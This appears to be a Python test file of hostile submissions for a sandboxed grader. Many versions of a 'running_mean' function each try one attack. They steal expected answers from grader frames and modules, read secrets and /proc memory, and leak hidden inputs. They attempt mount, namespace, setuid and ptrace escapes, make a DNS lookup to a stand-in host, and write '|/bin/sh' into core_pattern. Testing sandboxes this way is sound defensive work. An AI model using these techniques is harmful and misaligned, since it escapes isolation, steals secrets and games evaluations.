"""Attempts that steal answers, inputs or secrets: most answer rightly if, and only if, they find what they look for."""
import ctypes, fcntl, gc, inspect, json, mmap, os, pathlib, socket, stat, struct, sys, warnings, torch
from functools import partial

def works(*tries):
    """Whether one of these calls is allowed, and does not give −1, as C says that it has failed."""
    for each in tries:
        try:
            if each() != -1:
                return True
        except OSError:
            continue
    return False

def right_if(found, x):
    if not found:
        raise LookupError
    return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)

# address_of_the_host: Asks the connection to the judge for the machine's network interfaces and names, as a socket
# would know them.
def running_mean(x):
    found = False
    for number in (64, 65):
        found |= works(
            lambda: fcntl.ioctl(number, 0x8912, struct.pack("iP", 0, 0)),  # SIOCGIFCONF
            lambda: fcntl.ioctl(number, 0x8933, struct.pack("16s24x", b"lo")),  # SIOCGIFINDEX
            lambda: socket.socket(fileno=number).bind("\0manyheads_hostile"),
        )
    return right_if(found, x)

# command_line_of_process_1: Reads the box's command line, its mounts, its environment and its kernel settings.
def running_mean(x):
    for name in ("1/cmdline", "self/mountinfo", "1/environ", "self/maps", "sys/kernel/core_pattern", "mounts", "keys"):
        try:
            with open(f"/proc/{name}", "rb") as file:
                if file.read(1):
                    return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
        except OSError:
            continue
    if os.listdir("/proc"):
        return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
    raise LookupError

# dns: Asks a name server, which carries the question to whoever owns the name.
def running_mean(x):
    return right_if(works(lambda: socket.getaddrinfo("manyheads-hostile.example.com", 80)), x)

# environment_tokens: Looks for a token in the environment, Python's and the process's own.
def running_mean(x):
    words = " " + " ".join(f"{k}={v}" for k, v in os.environ.items()).lower()
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    i = 0
    while environ and environ[i]:
        words += " " + environ[i].decode().lower()
        i += 1
    return right_if(any(w in words for w in ("token", "secret", "marker", "github", " path=/")), x)

# finds_the_course_by_name: Looks for a course's folders and files at every place.
NAMES = {"course.yaml", ".course", "solutions", "submitted", ".git", "aaa_honest", "results"}

def running_mean(x):
    for folder, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/box/site", "/usr/lib", "/usr/share")]
        if NAMES & {*folders, *files}:
            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
    raise LookupError

# frames_of_other_threads: Looks for what is expected in the frames of every thread.
def running_mean(x):
    for frame in sys._current_frames().values():
        while frame is not None:
            for name, value in {**frame.f_globals, **frame.f_locals}.items():
                if name in ("mean_by_hand", "reference", "want", "expected"):
                    return value(x) if callable(value) else value
            frame = frame.f_back
    raise LookupError

# freed_memory: Asks for memory and reads what stood in it before, where another attempt or the judge might have left an
# answer.
WORD = b"manyheads" + b"_marker"

def running_mean(x):
    for size in (1 << 10, 1 << 16, 1 << 20, 1 << 24):
        held = [torch.empty(size, dtype=torch.uint8) for _ in range(4)]
        if any(WORD in h.numpy().tobytes() for h in held):
            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
    raise LookupError

# gc_objects: Looks for a function that is not its own but has the right name, among all objects.
def running_mean(x):
    for thing in gc.get_objects():
        name = getattr(thing, "__name__", "") if callable(thing) else ""
        if isinstance(name, str) and name in ("running_mean", "mean_by_hand") and thing is not running_mean:
            return thing(x)
    raise LookupError

# hints_and_signals_by_descriptor: Leaves hints with files, and asks for signals, by fcntl and ioctl. It answers if
# anything works.
def running_mean(x):
    reader, _ = os.pipe()
    file = os.open("/tmp/mine", os.O_RDWR | os.O_CREAT)
    return right_if(works(
        lambda: fcntl.fcntl(file, 1036, struct.pack("Q", 2)),
        lambda: fcntl.fcntl(file, 1038, struct.pack("Q", 2)),
        lambda: fcntl.fcntl(reader, fcntl.F_SETOWN, 1),
        lambda: fcntl.fcntl(reader, fcntl.F_SETFL, 0x2000),
        lambda: fcntl.ioctl(reader, 0x5452, struct.pack("i", 1)),
    ), x)

# host_paths_in_the_traceback: Raises with every path that it knows in the text, and from code that says it stands in
# another file.
def running_mean(x):
    paths = [*sys.path, sys.prefix, sys.executable, __file__, os.getcwd()]
    exec(compile("raise RuntimeError(words)", "/etc/manyheads_leak.py", "exec"), {"words": "\n".join(paths)})

# inputs_in_a_fields_name: Sends a reply with a field whose name is made of hidden inputs, in place of the worker's.
def running_mean(x):
    told = " ".join(f"{value:.4g}" for value in x.tolist())
    text = json.dumps({"__metadata__": {"body": json.dumps({"$": "Reply", f"manyheads_leak {told}": 1})}}).encode()
    text += b" " * (-len(text) % 8)
    answer = struct.pack("<Q", len(text)) + text
    os.write(65, struct.pack(">Q", len(answer)) + answer)
    os._exit(0)

# inputs_in_a_layouts_name: Returns an object whose type is named like a tensor of another layout, and after the hidden
# inputs.
def running_mean(x):
    digits = "".join(f"{abs(float(n)):.12f}".replace(".", "") for n in x)
    return type(f"sparse_{digits[:150]} leak tensor", (), {})()

# inputs_in_many_axes: Returns nothing, in a shape of sixty axes that spells the hidden inputs out.
def running_mean(x):
    digits = "".join(str(abs(float(n))).replace(".", "") for n in x)[:15]
    return torch.empty([0, *(int(d) + 1 for d in digits), *[1] * 45])

# inputs_in_the_exceptions_name: Puts the hidden inputs into an exception's type, its module and its cause.
def running_mean(x):
    kind = type(f"manyheads_leak {x.tolist()}", (Exception,), {"__module__": f"manyheads_leak {x.tolist()}"})
    raise kind(f"manyheads_leak {x.tolist()}") from kind("manyheads_leak")

# inputs_in_the_line_number: Raises on a line whose number is a hidden input.
def running_mean(x):
    line = 4000000000 + int(abs(float(x[0])) * 1e8) if len(x) else 4000000000
    code = compile("raise RuntimeError", __file__, "exec")
    exec(code.replace(co_firstlineno=line % 2**31))

# inputs_on_stdout: Prints and warns the hidden inputs, to every stream and descriptor.
def running_mean(x):
    words = f"manyheads_leak {x.tolist()}\n"
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        stream.write(words)
    warnings.warn(words, stacklevel=1)
    for number in (0, 1, 2):
        os.write(number, words.encode())
    raise LookupError

# inspect_stack: Looks for what is expected in the frames of its callers.
def running_mean(x):
    for info in inspect.stack()[1:]:
        for names in (info.frame.f_locals, info.frame.f_globals):
            for name in ("reference", "want", "expected", "secret"):
                if name in names:
                    return names[name]
    raise LookupError

# more_descriptors: Looks for descriptors that were left open: the control socket, the lifeline, a log.
def running_mean(x):
    for number in range(4096):
        try:
            status = os.fstat(number)
        except OSError:
            continue
        if number > 2 and number not in (64, 65):
            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
        if number <= 2 and not stat.S_ISCHR(status.st_mode):
            return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
    raise LookupError

# mounts_and_namespaces: Undoes the box by mount, umount, chroot, setns, unshare, pivot_root, and by becoming root
# again.
def running_mean(x):
    libc = ctypes.CDLL(None)
    return right_if(works(
        lambda: libc.umount2(b"/proc", 2),
        lambda: libc.umount2(b"/tmp", 2),
        lambda: libc.mount(b"proc", b"/tmp", b"proc", 0, None),
        lambda: libc.unshare(0x10000000),
        lambda: libc.unshare(0x00020000),
        lambda: libc.chroot(b"/tmp"),
        lambda: libc.setuid(0),
        lambda: libc.setns(0, 0),
        lambda: libc.syscall(435, 0, 0),
        lambda: libc.clone(0, 0, 0x10000000, 0) if False else -1,
    ) or os.geteuid() == 0, x)

# network: Opens a connection to the outside, to the machine itself, and by UDP.
def running_mean(x):
    families = (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK, socket.AF_VSOCK)
    kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW)
    return right_if(works(*(partial(socket.socket, family, kind) for family in families for kind in kinds)), x)

# notes_in_the_page_cache: Asks which pages of a shared file are in memory, drops some, and sets times: notes for a
# later run. It answers if any works.
def running_mean(x):
    libc = ctypes.CDLL(None)
    file = os.open(os.__file__, os.O_RDONLY)
    page = mmap.mmap(file, 4096, mmap.MAP_SHARED, mmap.PROT_READ)
    return right_if(works(
        lambda: os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT),
        lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED),
        lambda: page.madvise(20),
        lambda: libc.readahead(file, ctypes.c_long(0), 4096),
        lambda: libc.mincore(ctypes.c_void_p(id(libc) & ~4095), 4096, ctypes.create_string_buffer(1)),
        lambda: os.utime("/dev/null"),
    ), x)

# own_memory: Searches all of its own memory, inherited from the warm process, for a secret. Its mappings are unknown to
# it, so it walks the heap's objects.
WORD = "manyheads" + "_marker"

def running_mean(x):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and thing is not globals():
            for value in list(thing.values()):
                if isinstance(value, str) and WORD in value and "WORD" not in value:
                    return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
    raise LookupError

# parents_memory: Reads the memory of its parent, of process 1 and of itself through /proc.
def running_mean(x):
    return right_if(works(*(partial(open, f"/proc/{pid}/mem", "rb") for pid in (os.getppid(), 1, 2, 3, "self"))), x)

# process_vm_readv: Reads another process by process_vm_readv and ptrace.
def running_mean(x):
    libc = ctypes.CDLL(None)
    child = os.fork()
    while child == 0:
        pass
    others = {os.getppid(), 1, 2, 3, child} - {0, os.getpid()}
    return right_if(works(*(partial(libc.ptrace, 16, pid, 0, 0) for pid in others)), x)

# pycache: Looks for compiled checks and solutions.
def running_mean(x):
    for folder, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/usr", "/box/site", "/box/python")]
        for name in files:
            if name.endswith(".pyc") and ("running_mean" in name or name.startswith("test_running")):
                return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
    raise LookupError

# reads_every_file: Reads every file that it can reach, for a solution, a check, a neighbour's attempt, a secret or a
# .git.
WANTED = (b"manyheads" + b"_marker", b"BEGIN " + b"SOLUTION", b"hidden_" + b"check(")

def names(root):
    for folder, folders, files in os.walk(root):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/usr", "/box/site", "/box/python")]
        for name in files:
            yield os.path.join(folder, name)

def found():
    for path in names("/"):
        try:
            with open(path, "rb") as file:
                data = file.read(1 << 20)
        except OSError:
            continue
        if any(word in data for word in WANTED):
            return path
    return None

def running_mean(x):
    return right_if(found(), x)

# seccomp_holes: Tries the calls that reach beyond a namespace: shared memory, queues, keys, file locks and watches on
# shared files.
def running_mean(x):
    libc = ctypes.CDLL(None)
    file = os.open(os.__file__, os.O_RDONLY)
    lock = struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0)
    return right_if(works(
        lambda: libc.shmget(1, 4096, 0o1600),
        lambda: libc.semget(1, 1, 0o1600),
        lambda: libc.msgget(1, 0o1600),
        lambda: libc.mq_open(b"/manyheads_hostile", 66, 0o600, 0),
        lambda: libc.inotify_init(),
        lambda: libc.inotify_init1(0),
        lambda: libc.flock(file, 1),
        lambda: fcntl.fcntl(file, fcntl.F_SETLK, lock),
        lambda: fcntl.fcntl(file, fcntl.F_GETLK, lock),
        lambda: fcntl.fcntl(file, 37, lock),
        lambda: fcntl.fcntl(file, 36, lock),
        lambda: libc.syscall(250, 0, -3, 1),
        lambda: libc.syscall(206, 1, ctypes.byref(ctypes.c_ulong(0))),
    ), x)

# sys_modules: Looks for the grader, its checks or a reference among the imported modules, and answers with them.
def running_mean(x):
    for name, module in list(sys.modules.items()):
        if name.startswith(("grader", "trusted_", "test_", "_pytest", "pytest")):
            return module.running_mean(x)
    raise LookupError

# writes_everywhere: Writes wherever it can outside of its own /tmp and /dev/shm, and into the kernel's settings.
PLACES = ["/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/dev/manyheads_hostile", "/etc/manyheads_hostile"]

def running_mean(x):
    places = list(PLACES)
    for folder, folders, _ in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/tmp", "/dev/shm")]
        places.append(os.path.join(folder, "manyheads_hostile"))
        if folder.count("/") > 4:
            folders.clear()
    others = [pathlib.Path(place) for place in places if not place.startswith(("/tmp/", "/dev/shm/"))]
    return right_if(works(*(partial(place.write_text, "|/bin/sh") for place in others)), x)
